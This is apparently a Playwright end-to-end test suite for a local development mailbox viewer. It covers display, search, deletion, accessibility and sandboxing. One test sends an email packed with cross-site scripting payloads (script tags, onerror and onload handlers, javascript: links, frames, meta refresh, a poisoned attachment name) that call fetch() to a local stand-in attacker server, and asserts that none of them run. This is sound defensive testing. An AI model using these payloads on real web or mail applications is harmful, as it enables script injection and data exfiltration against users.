import { createServer } from 'node:http'
import { once } from 'node:events'
import { createRequire } from 'node:module'
import { readFile } from 'node:fs/promises'
import { createTransport } from 'nodemailer'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { asksFor } from '@debut/testing/troubles.ts'
import { sharedBrowser } from '@debut/testing/shared-browser.ts'
import { type Mail, start } from './mailbox.ts'

let browser: Browser
let mail: Mail
let page: Page

const FROM = { name: 'Debut', address: 'hello@debut.local' }

const url = () => `http://127.0.0.1:${mail.httpPort}/`
const send = (message: object) =>
  createTransport({ host: '127.0.0.1', port: mail.smtpPort }).sendMail({ from: FROM, to: 'aya@example.com', text: 'x', ...message })

beforeAll(async () => {
  browser = await sharedBrowser()
  mail = await start({ smtpPort: 0, httpPort: 0, host: '127.0.0.1' })
})
afterAll(async () => {
  await page?.close()
  await mail?.close()
})
beforeEach(async () => {
  await page?.close()
  await fetch(`${url()}api/v1/messages`, { method: 'DELETE' })
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } })
})

it('shows by itself what arrives, and what it says', async () => {
  await page.goto(url())
  await page.getByText('No mail yet').waitFor()
  await send({ subject: 'Your code is 123456', text: 'See http://localhost:3000/verify?code=123456.' })
  await page.getByRole('link', { name: /Your code is 123456/ }).click()
  const link = page.getByRole('tabpanel').getByRole('link')
  await link.waitFor()
  expect(await link.getAttribute('href')).toBe('http://localhost:3000/verify?code=123456')
  expect(await link.getAttribute('rel')).toContain('noopener')
  await page.getByRole('tab', { name: 'Source' }).click()
  await page.getByText('Return-Path: <hello@debut.local>').waitFor()
})

it('searches while typing', async () => {
  await send({ subject: 'One' })
  await send({ subject: 'Two' })
  await page.goto(url())
  await page.getByRole('link', { name: /One/ }).waitFor()
  await page.getByRole('searchbox').fill('subject:two')
  await page.getByRole('heading', { name: 'Found' }).waitFor()
  expect(await page.locator('.mail .subject').allTextContents()).toEqual([expect.stringContaining('Two')])
})

it('deletes everything only when asked twice', async () => {
  await send({ subject: 'One' })
  await page.goto(url())
  await page.getByRole('button', { name: 'Delete all' }).click()
  expect(await page.locator('.mail').count()).toBe(1)
  await page.getByRole('button', { name: 'Really delete all?' }).click()
  await page.getByText('No mail yet').waitFor()
})

it('lets a hostile message run, send and embed nothing', async () => {
  asksFor(/sandbox|Content Security Policy|violates|net::ERR_BLOCKED|csp/)
  const called: string[] = []
  const attacker = createServer((request, response) => {
    called.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('parent.document.title = "owned"')
  }).listen(0, '127.0.0.1')
  await once(attacker, 'listening')
  const address = attacker.address()
  const evil = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`
  const script = (name: string) => `fetch('${evil}/${name}');top.document.title='owned'`
  const subject = `<img src=x onerror="${script('subject')}">`
  const html = `
    <script>${script('inline')}</script><script src="${evil}/external"></script>
    <img src="x:" onerror="${script('onerror')}"><svg onload="${script('svg')}"></svg>
    <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
    <meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/">
    <form action="${evil}/form"><button id="submit">Send</button></form>
    <a id="bad" href="javascript:${script('link')}">a</a><a id="good" href="${evil}/good">b</a>
    </body><script>${script('late')}</script>`
  await send({
    subject,
    from: { name: `<script>${script('name')}</script>`, address: 'evil@example.com' },
    text: `<script>${script('text')}</script>`,
    html,
    attachments: [{ filename: '"><script>1</script>.html', content: `<script>${script('attachment')}</script>` }],
  })
  await page.goto(url())
  await page.locator('.mail').click()
  const frame = page.frameLocator('iframe')
  await frame.locator('#good').waitFor()
  await frame.locator('#submit').click()
  await frame.locator('#bad').click()
  const [opened] = await Promise.all([page.context().waitForEvent('page'), frame.locator('#good').click()])
  await opened.waitForLoadState()
  expect(opened.url()).toBe(`${evil}/good`)
  expect(await opened.evaluate('opener === null')).toBe(true)
  await page.getByRole('tab', { name: 'Text' }).click()
  await page.locator('pre').waitFor()
  expect(await page.locator('h2').allTextContents()).toEqual(['Inbox', subject])
  expect(await page.locator('.who').textContent()).toContain('<script>')
  expect(await page.locator('pre').textContent()).toContain('<script>')
  expect(await page.title()).toBe('Mail · Debut')
  expect(called.filter((path) => path !== '/favicon.ico')).toEqual(['/good'])
  // Opened by itself, outside the page's frame, it is held by its own policy.
  const { messages } = (await (await fetch(`${url()}api/v1/messages`)).json()) as { messages: { ID: string }[] }
  await page.goto(`${url()}view/${messages[0]?.ID}.html`).catch(() => {})
  expect(called.filter((path) => path !== '/favicon.ico')).toEqual(['/good'])
  attacker.closeAllConnections()
  attacker.close()
})

it.each([
  ['light', 1280],
  ['dark', 1280],
  ['light', 390],
  ['dark', 390],
] as const)('is usable by everyone in %s at %i pixels', async (colorScheme, width) => {
  await send({ subject: 'A subject that is long enough to need two lines at least on a telephone', html: '<p>Hi</p>' })
  await send({ subject: 'Short one', attachments: [{ filename: 'a-file-with-a-very-long-name-that-goes-on-and-on.pdf', content: 'x' }] })
  const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
  const narrow = await browser.newPage({ viewport: { width, height: 844 }, colorScheme, reducedMotion: 'reduce', bypassCSP: true })
  const check = async () => {
    await narrow.evaluate(axe)
    const { violations } = (await narrow.evaluate('axe.run(document, { iframes: false })')) as {
      violations: { id: string; nodes: { html: string }[] }[]
    }
    expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([])
    expect(await narrow.evaluate('document.documentElement.scrollWidth')).toBe(width)
  }
  await narrow.goto(url())
  await narrow.getByRole('link', { name: /A subject/ }).waitFor()
  await check()
  await narrow.getByRole('link', { name: /Short one/ }).click()
  await narrow.getByRole('tabpanel').waitFor()
  await check()
  if (width === 390) {
    await narrow.getByRole('link', { name: 'Inbox' }).click()
    await narrow.getByRole('link', { name: /A subject/ }).waitFor()
  }
  await narrow.close()
})
